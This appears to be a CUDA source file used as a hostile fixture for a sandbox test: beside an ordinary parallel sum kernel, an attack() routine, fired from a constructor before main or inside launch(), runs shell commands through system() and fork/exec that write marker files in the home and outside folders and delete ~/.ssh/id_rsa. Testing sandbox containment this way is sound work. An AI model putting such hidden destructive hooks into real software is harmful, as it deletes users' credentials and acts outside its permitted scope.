// system.cu — hostile host code: a shell through system() and through fork
// and exec, writing files in $HOME and in a folder outside the work folder,
// and deleting the decoy key.  Contained: nothing outside changes.
// tests/own/sandbox_test.sh fills in @HOME@, @OUTSIDE@ and when it strikes
// (@AT_START@: before main, as it can without a GPU; @IN_LAUNCH@: in launch()).
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <sys/wait.h>
#include <unistd.h>

static void attack()
{
    int rc = system("echo pwned > @HOME@/pwned-system; echo pwned > @OUTSIDE@/pwned-system; rm -f @HOME@/.ssh/id_rsa");
    fprintf(stderr, "hostile system: system() returned %d\n", rc);
    pid_t p = fork();
    if (p == 0) {
        execl("/bin/sh", "sh", "-c", "echo pwned > @OUTSIDE@/pwned-exec", (char *)nullptr);
        fprintf(stderr, "hostile system: exec failed: %s\n", strerror(errno));
        _exit(1);
    }
    if (p > 0) waitpid(p, nullptr, 0);
}

__attribute__((constructor)) static void at_start()
{
    if (@AT_START@) attack();
}

__global__ void sum_blocks(const float *in, float *out, unsigned int n)
{
    __shared__ float s[1024];
    unsigned int t = threadIdx.x, i = blockIdx.x * blockDim.x * 2 + t;
    s[t] = (i < n ? in[i] : 0.0f) + (i + blockDim.x < n ? in[i + blockDim.x] : 0.0f);
    __syncthreads();
    for (unsigned int h = blockDim.x / 2; h > 0; h /= 2) {
        if (t < h) s[t] += s[t + h];
        __syncthreads();
    }
    if (t == 0) out[blockIdx.x] = s[0];
}

unsigned int launch(const float *in, float *out, unsigned int n, unsigned int block, cudaStream_t stream)
{
    static bool struck = false;
    if (@IN_LAUNCH@ && !struck) struck = true, attack();
    unsigned int grid = (n + 2 * block - 1) / (2 * block);
    sum_blocks<<<grid, block, 0, stream>>>(in, out, n);
    return grid;
}
